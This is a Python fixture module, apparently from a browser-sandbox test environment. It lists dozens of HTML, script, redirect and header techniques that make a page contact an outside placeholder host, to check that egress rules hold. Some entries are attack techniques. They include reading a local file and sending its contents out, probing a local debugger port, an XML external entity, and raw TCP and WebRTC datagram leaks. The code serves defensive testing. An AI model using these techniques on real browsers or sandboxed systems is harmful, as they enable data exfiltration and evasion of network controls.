"""Ways for a page to make a browser request an address.

A request must arrive if its address is allowed, and must not arrive otherwise. Placeholders:

- ``OUT``: the outside address of the way;
- ``HOST``: host and port of the outside server;
- ``UDP``: a port for datagrams;
- ``FILE``: a file of the host.

The ways of ``PROGRAMS`` request a program of the host instead of an address.
"""

from agentgym_envs.envs.web.proxy import ProxyReply

ELEMENTS = {
    "image": "<img src=OUT>",
    "image-set-of-sources": "<img srcset='OUT 2x'>",
    "picture": "<picture><source srcset=OUT><img src=data:,></picture>",
    "image-button": "<input type=image src=OUT>",
    "audio": "<audio src=OUT preload=auto></audio>",
    "video": "<video src=OUT preload=auto></video>",
    "video-source": "<video preload=auto><source src=OUT type=video/mp4></video>",
    "video-poster": "<video poster=OUT></video>",
    "subtitles": "<video src=data:, crossorigin><track src=OUT default kind=captions></video>",
    "embed": "<embed src=OUT type=text/html>",
    "object": "<object data=OUT type=text/html></object>",
    "frame": "<iframe src=OUT></iframe>",
    "frame-in-a-frame": "<iframe srcdoc='<iframe src=OUT></iframe>'></iframe>",
    "frame-with-a-picture": "<iframe srcdoc='<img src=OUT>'></iframe>",
    "frame-in-a-sandbox": (
        "<iframe sandbox=allow-scripts srcdoc='<script>fetch(`OUT`, {mode:"
        " `no-cors`})</script>'></iframe>"
    ),
    "frame-of-data": "<iframe src='data:text/html,<img src=OUT>'></iframe>",
    "frameset": "<frameset><frame src=OUT></frameset>",
    "script": "<script src=OUT></script>",
    "module": "<script type=module src=OUT></script>",
    "module-import": "<script type=module>import 'OUT'</script>",
    "stylesheet": "<link rel=stylesheet href=OUT>",
    "alternate-stylesheet": "<link rel='alternate stylesheet' title=x href=OUT>",
    "icon": "<link rel=icon href=OUT>",
    "preloaded-script": "<link rel=preload as=script href=OUT>",
    "preloaded-picture": "<link rel=preload as=image href=OUT>",
    "preloaded-font": "<link rel=preload as=font crossorigin href=OUT>",
    "preloaded-data": "<link rel=preload as=fetch crossorigin href=OUT>",
    "module-preload": "<link rel=modulepreload href=OUT>",
    "prefetch": "<link rel=prefetch href=OUT>",
    "prerender": "<link rel=prerender href=OUT>",
    "preconnect": "<link rel=preconnect href=OUT>",
    "name-prefetch": "<link rel=dns-prefetch href=//name-prefetch.example>",
    "manifest": "<link rel=manifest href=OUT>",
    "style-import": "<style>@import 'OUT'</style>",
    "background": "<div style='background: url(OUT)'>x</div>",
    "background-attribute": "<body background=OUT>",
    "font": "<style>@font-face { font-family: f; src: url(OUT) } p { font-family: f }</style><p>x",
    "list-image": "<ul style='list-style-image: url(OUT)'><li>x</ul>",
    "generated-content": "<style>p::before { content: url(OUT) }</style><p>x",
    "border-image": "<div style='border: 9px solid; border-image: url(OUT) 9'>x</div>",
    "mask": "<div style='mask-image: url(OUT)'>x</div>",
    "shape": "<div style='float: left; shape-outside: url(OUT)'>x</div>",
    "style-image-set": "<div style='background: image-set(\"OUT\" 1x)'>x</div>",
    "vector-image": "<svg><image href=OUT width=9 height=9 /></svg>",
    "vector-script": "<svg><script href=OUT></script></svg>",
    "vector-filter": (
        "<svg><filter id=f><feImage href=OUT /></filter><rect width=9 height=9 filter=url(#f)"
        " /></svg>"
    ),
    "refresh": "<meta http-equiv=refresh content='0; url=OUT'>",
    "base": "<base href=http://HOST/><img src=base>",
    "speculative-prefetch": (
        '<script type=speculationrules>{"prefetch": [{"urls": ["OUT"], "eagerness":'
        ' "immediate"}]}</script>'
    ),
    "speculative-prerender": (
        '<script type=speculationrules>{"prerender": [{"urls": ["OUT"], "eagerness":'
        ' "immediate"}]}</script>'
    ),
    "print-stylesheet": "<link rel=stylesheet media=print href=OUT>",
    "touch-icon": "<link rel=apple-touch-icon href=OUT>",
    "search-description": "<link rel=search type=application/opensearchdescription+xml href=OUT>",
    "dictionary": "<link rel=compression-dictionary href=OUT>",
    "import-map": (
        '<script type=importmap>{"imports": {"x": "OUT"}}</script><script type=module>import'
        " 'x'</script>"
    ),
    "module-of-data": "<script type=module>import x from 'OUT' with {type: 'json'}</script>",
    "style-in-a-layer": "<style>@import url(OUT) layer(x) supports(display: block)</style>",
    "cursor": "<div style='cursor: url(OUT), auto; height: 900px'>x</div>",
    "filter": "<div style='filter: url(OUT#f)'>x</div>",
    "clip-path": "<div style='clip-path: url(OUT#c)'>x</div>",
    "content-of-an-element": "<div style='content: url(OUT)'>x</div>",
    "cross-fade": "<div style='background: -webkit-cross-fade(url(OUT), url(data:,), 50%)'>x</div>",
    "box-reflection": "<div style='-webkit-box-reflect: below 0 url(OUT)'>x</div>",
    "marker": "<style>li::marker { content: url(OUT) }</style><li>x",
    "first-letter": "<style>p::first-letter { background: url(OUT) }</style><p>x",
    "vector-use": "<svg><use href=OUT#x /></svg>",
    "vector-old-link": (
        "<svg><image xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=OUT width=9 height=9"
        " /></svg>"
    ),
    "vector-style": "<svg><style>rect { fill: url(OUT#p) }</style><rect width=9 height=9 /></svg>",
    "vector-foreign": "<svg><foreignObject width=9 height=9><img src=OUT></foreignObject></svg>",
    "vector-object": "<object type=image/svg+xml data=OUT></object>",
    "frame-with-a-refresh": (
        "<iframe srcdoc='<meta http-equiv=refresh content=\"0; url=OUT\">'></iframe>"
    ),
    "lazy-frame": "<iframe loading=lazy src=OUT></iframe>",
    "lazy-image": "<img loading=lazy src=OUT>",
    "fenced-frame": (
        "<fencedframe></fencedframe><script>document.querySelector('fencedframe').config = "
        "window.FencedFrameConfig && new FencedFrameConfig('OUT')</script>"
    ),
    "attribution": "<img src=data:, attributionsrc=OUT>",
    "input-image-action": (
        "<form><input type=submit formaction=OUT id=s></form><script>s.click()</script>"
    ),
    "area": "<map name=m><area shape=default href=OUT id=a></map><script>a.click()</script>",
    "vector-link": (
        "<svg><a href=OUT id=a><text y=9>x</text></a></svg><script>a.dispatchEvent(new"
        " MouseEvent('click'))</script>"
    ),
    "file-frame": "<iframe src=FILE></iframe>",
    "file-image": "<img src=FILE>",
    "file-object": "<object data=FILE></object>",
    "file-script": "<script src=FILE></script>",
    "report-of-the-policy": (
        "<meta http-equiv=content-security-policy content=\"img-src 'none'\"><img src=OUT>"
    ),
}
SCRIPTS = {
    "fetch": "fetch('OUT')",
    "fetch-post": "fetch('OUT', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "fetch-to-the-end": "fetch('OUT', {keepalive: true, mode: 'no-cors'}); location = '/'",
    "fetch-later": "fetchLater('OUT', {activateAfter: 0})",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'OUT'); r.send()",
    "request-that-waits": "const r = new XMLHttpRequest(); r.open('GET', 'OUT', false); r.send()",
    "beacon": "navigator.sendBeacon('OUT', 'x')",
    "events": "new EventSource('OUT')",
    "socket": "new WebSocket('ws://HOST/socket')",
    "safe-socket": "new WebSocket('wss://HOST/safe-socket')",
    "transport": "new WebTransport('https://HOST/transport').ready.catch(() => 0)",
    "safe-fetch": "fetch('https://HOST/safe-fetch')",
    "late-import": "import('OUT')",
    "written-script": "document.write('<script src=OUT></' + 'script>')",
    "loose-image": "new Image().src = 'OUT'",
    "loose-sound": "new Audio('OUT').load()",
    "loose-font": "new FontFace('f', 'url(OUT)').load()",
    "style-rule": (
        "document.adoptedStyleSheets = [new CSSStyleSheet()]; const s ="
        " document.createElement('style');document.head.append(s); s.sheet.insertRule('body {"
        " background: url(OUT) }')"
    ),
    "style-sheet-of-text": (
        "const l = document.createElement('link'); l.rel = 'stylesheet';l.href ="
        " URL.createObjectURL(new Blob(['@import \"OUT\"'], {type: 'text/css'}));"
        " document.head.append(l)"
    ),
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`OUT`)'])))",
    "worker-import": "new Worker(URL.createObjectURL(new Blob(['importScripts(`OUT`)'])))",
    "worker-socket": (
        "new Worker(URL.createObjectURL(new Blob(['new WebSocket(`ws://HOST/worker-socket`)'])))"
    ),
    "worker-module": (
        "new Worker(URL.createObjectURL(new Blob(['import `x`'.replaceAll('`', '\"').replace('x',"
        " 'OUT')],{type: 'text/javascript'})), {type: 'module'})"
    ),
    "worker-in-a-worker": (
        "new Worker(URL.createObjectURL(new Blob(["
        "'new Worker(URL.createObjectURL(new Blob([\"fetch(`OUT`)\"])))'])))"
    ),
    "worker-transport": (
        "new Worker(URL.createObjectURL(new Blob(['new WebTransport(`https://HOST/x`)'])))"
    ),
    "shared-worker": "new SharedWorker('/shared.js?OUT')",
    "shared-worker-socket": "new SharedWorker('/shared-socket.js?HOST')",
    "service-worker": "navigator.serviceWorker.register('/service.js?OUT')",
    "worklet": "new AudioContext().audioWorklet.addModule('OUT')",
    "paint-worklet": "CSS.paintWorklet.addModule('OUT')",
    "window": "open('OUT')",
    "window-without-opener": "open('OUT', '_blank', 'noopener')",
    "window-that-fetches": "open('about:blank').eval(\"fetch('OUT', {mode: 'no-cors'})\")",
    "location": "location = 'OUT'",
    "location-in-a-frame": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        " f.contentWindow.location = 'OUT'"
    ),
    "frame-that-fetches": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.fetch('OUT', {mode: 'no-cors'})"
    ),
    "link": (
        "const a = document.createElement('a'); a.href = 'OUT'; document.body.append(a); a.click()"
    ),
    "link-to-a-new-tab": (
        "const a = document.createElement('a'); a.href = 'OUT'; a.target = '_blank';"
        "document.body.append(a); a.click()"
    ),
    "link-ping": (
        "const a = document.createElement('a'); a.href = '#x'; a.ping = 'OUT';"
        " document.body.append(a); a.click()"
    ),
    "link-download": (
        "const a = document.createElement('a'); a.href = 'OUT'; a.download = 'x';"
        " document.body.append(a); a.click()"
    ),
    "form": (
        "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f);"
        " f.submit()"
    ),
    "form-post": (
        "const f = document.createElement('form'); f.action = 'OUT'; f.method = 'post';"
        "document.body.append(f); f.submit()"
    ),
    "form-in-a-frame": (
        "const i = document.createElement('iframe'); i.name = 'i'; document.body.append(i);const f"
        " = document.createElement('form'); f.action = 'OUT'; f.target = 'i';"
        " document.body.append(f); f.submit()"
    ),
    "last-words": (
        "addEventListener('pagehide', () => navigator.sendBeacon('OUT', 'x')); location = '/'"
    ),
    "replaced-location": "location.replace('OUT')",
    "assigned-location": "location.assign('OUT')",
    "navigation": "navigation.navigate('OUT')",
    "opened-document": "document.open('OUT', 'x', 'popup')",
    "popup": "open('OUT', 'x', 'popup,width=99,height=99')",
    "script-address": "location = \"javascript:location = 'OUT'\"",
    "frame-turns-the-page": (
        "const f = document.createElement('iframe'); f.srcdoc = `<script>top.location = 'OUT'</` +"
        " `script>`;document.body.append(f)"
    ),
    "window-turns-its-opener": "open('about:blank').eval(\"opener.location = 'OUT'\")",
    "window-written": "open('about:blank').document.write(\"<img src='OUT'>\")",
    "requested-form": (
        "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f);"
        " f.requestSubmit()"
    ),
    "form-to-a-new-tab": (
        "const f = document.createElement('form'); f.action = 'OUT'; f.target = '_blank';"
        "document.body.append(f); f.submit()"
    ),
    "beacon-when-hidden": (
        "addEventListener('visibilitychange', () => navigator.sendBeacon('OUT', 'x')); location"
        " = '/'"
    ),
    "fetch-with-a-header": "fetch('OUT', {headers: {'x-y': 'z'}})",
    "fetch-in-a-frame-of-data": (
        "const f = document.createElement('iframe');f.src = 'data:text/html,<script>fetch(`OUT`,"
        " {mode: `no-cors`})</' + 'script>'; document.body.append(f)"
    ),
    "request-in-a-worker": (
        "new Worker(URL.createObjectURL(new Blob(["
        "'const r = new XMLHttpRequest(); r.open(`GET`, `OUT`, false); r.send()'])))"
    ),
    "events-in-a-worker": "new Worker(URL.createObjectURL(new Blob(['new EventSource(`OUT`)'])))",
    "worker-of-data": "new Worker('data:text/javascript,fetch(`OUT`)')",
    "socket-stream": "new WebSocketStream('ws://HOST/socket-stream')",
    "socket-in-a-frame": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        "new f.contentWindow.WebSocket('ws://HOST/socket-in-a-frame')"
    ),
    "session-picture": (
        "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: 'OUT'}]})"
    ),
    "notification": "new Notification('x', {icon: 'OUT'})",
    "payment": (
        "new PaymentRequest([{supportedMethods: 'https://HOST/payment'}], {total: {label: 'x',"
        "amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)"
    ),
    "parsed-entity": (
        "new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM \"OUT\">]><x>&e;</x>',"
        " 'text/xml')"
    ),
    "transformed": (
        'const d = new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0"'
        ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of'
        " select=\"document(`OUT`)\"/></xsl:template></xsl:stylesheet>', 'text/xml'); const t ="
        " new XSLTProcessor(); t.importStylesheet(d);t.transformToDocument(document)"
    ),
    "shared-module": "new SharedWorker('/shared.js?OUT', {type: 'module'})",
    "shared-storage": "sharedStorage.worklet.addModule('OUT').catch(() => 0)",
    "ad-auction": (
        "navigator.joinAdInterestGroup({owner: 'https://HOST', name: 'x', lifetimeMs:"
        " 9999}).catch(() => 0)"
    ),
    "direct-socket": "new TCPSocket('127.0.0.1', HOST)",
    "debugger": "fetch('http://127.0.0.1:9222/json/version').catch(() => fetch('OUT'))",
    "debugger-socket": "new WebSocket('ws://HOST/devtools/browser/debugger-socket')",
    "service-worker-by-its-prototype": (
        "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js?OUT')"
    ),
    "service-worker-by-a-frame": (
        "const f = document.createElement('iframe');"
        " document.body.append(f);f.contentWindow.ServiceWorkerContainer.prototype.register"
        ".call(navigator.serviceWorker,"
        " '/service.js?OUT')"
    ),
    "service-worker-after-a-deletion": (
        "delete ServiceWorkerContainer.prototype.register;"
        "navigator.serviceWorker.register('/service.js?OUT')"
    ),
    "file-fetch": "fetch('FILE').then(r => r.text()).then(t => fetch('OUT?' + t))",
    "file-location": "location = 'FILE'",
    "file-window": "open('FILE')",
    "file-source": "open('view-source:FILE')",
    "inner-page": "open('chrome://version')",
    "stun": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
        " c.createDataChannel('x');c.createOffer().then(o => c.setLocalDescription(o))"
    ),
    "turn": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:UDP', username: 'u',"
        " credential: 'c'}]});c.createDataChannel('x'); c.createOffer().then(o =>"
        " c.setLocalDescription(o))"
    ),
    "turn-over-tcp": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', username:"
        " 'u',credential: 'c'}]}); c.createDataChannel('x'); c.createOffer().then(o =>"
        " c.setLocalDescription(o))"
    ),
    "stun-in-a-frame": (
        "const f = document.createElement('iframe'); document.body.append(f);const c = new"
        " f.contentWindow.RTCPeerConnection({iceServers: [{urls:"
        " 'stun:127.0.0.1:UDP'}]});c.createDataChannel('x'); c.createOffer().then(o =>"
        " c.setLocalDescription(o))"
    ),
    "stun-in-a-window": (
        "const w = open('about:blank');"
        "const c = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
    ),
}
PROGRAM = "mailto:a@b.test?body=words"
PROGRAMS = {
    "program-by-a-click": (
        f"const a = document.createElement('a'); a.href = '{PROGRAM}'; document.body.append(a);"
        " a.click()"
    ),
    "program-by-a-location": f"location = '{PROGRAM}'",
    "program-by-a-frame": (
        f"const f = document.createElement('iframe'); f.src = '{PROGRAM}'; document.body.append(f)"
    ),
    "program-by-a-form": (
        f"const f = document.createElement('form'); f.action = '{PROGRAM}'; f.method = 'post';"
        "document.body.append(f); f.submit()"
    ),
    "program-by-a-window": f"open('{PROGRAM}')",
    "program-of-a-phone": "location = 'tel:123'",
    "program-of-an-editor": "location = 'vscode://file/x'",
    "program-unknown": "location = 'unheard-of:x'",
    "program-by-ftp": "location = 'ftp://HOST/x'",
}
"""Scripts."""
REFRESHES = {"program-by-a-refresh": f"<meta http-equiv=refresh content='0; url={PROGRAM}'>"}
REDIRECTS = {
    f"redirect-{status}": ProxyReply(status, {"Location": "OUT"}, b"")
    for status in (301, 302, 303, 307, 308)
}
HEADERS = {
    "refresh-header": {"Refresh": "0; url=OUT"},
    "link-header": {"Link": "<OUT>; rel=preload; as=image"},
    "link-header-for-a-style": {"Link": "<OUT>; rel=preload; as=style"},
    "link-header-for-a-module": {"Link": "<OUT>; rel=modulepreload"},
    "link-header-for-the-next-page": {"Link": "<OUT>; rel=prefetch"},
    "link-header-for-a-connection": {"Link": "<OUT>; rel=preconnect"},
    "speculation-header": {"Speculation-Rules": '"OUT"'},
    "report-only-header": {"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri OUT"},
    "error-log-header": {
        "NEL": '{"report_to": "x", "max_age": 99, "success_fraction": 1}',
        "Report-To": '{"group": "x", "max_age": 99, "endpoints": [{"url": "OUT"}]}',
    },
    "alternative-header": {"Alt-Svc": 'h2="HOST"; ma=99'},
    "policy-header": {"Content-Security-Policy": "img-src 'none'; report-uri OUT"},
}
DATAGRAMS = frozenset(("stun", "turn", "stun-in-a-frame", "stun-in-a-window"))
"""Ways that send datagrams, which no setting allows."""


def pages(host: str, udp: int, file: str) -> dict[str, str | ProxyReply]:
    """Returns path → page, with one page for each way."""

    def filled(text: str, name: str) -> str:
        return (
            text.replace("OUT", f"http://{host}/{name}")
            .replace("HOST", host)
            .replace("UDP", str(udp))
            .replace("FILE", file)
        )

    made: dict[str, str | ProxyReply] = {
        f"/{name}": filled(text, name) for name, text in ELEMENTS.items()
    }
    made |= {f"/{name}": text for name, text in REFRESHES.items()}
    for name, text in {**SCRIPTS, **PROGRAMS}.items():
        made[f"/{name}"] = f"<body><script>try {{ {filled(text, name)} }} catch {{}}</script>"
    made["/program-by-a-redirect"] = ProxyReply(302, {"Location": PROGRAM}, b"")
    for name, reply in REDIRECTS.items():
        made[f"/{name}"] = reply._replace(headers={"Location": filled("OUT", name)})
    for name, headers in HEADERS.items():
        sent = {key: filled(value, name) for key, value in headers.items()}
        made[f"/{name}"] = ProxyReply(200, {"content-type": "text/html", **sent}, b"<img src=/x>")
    script = {"content-type": "text/javascript"}
    made["/shared.js"] = ProxyReply(200, script, b"fetch(location.search.slice(1))")
    made["/shared-socket.js"] = ProxyReply(
        200, script, b"new WebSocket('ws://' + location.search.slice(1) + '/shared-worker-socket')"
    )
    made["/service.js"] = ProxyReply(200, script, b"fetch(location.search.slice(1))")
    return made | {"/": "<title>Home</title>"}


NAMES = (*ELEMENTS, *SCRIPTS, *PROGRAMS, *REFRESHES, *REDIRECTS, *HEADERS, "program-by-a-redirect")
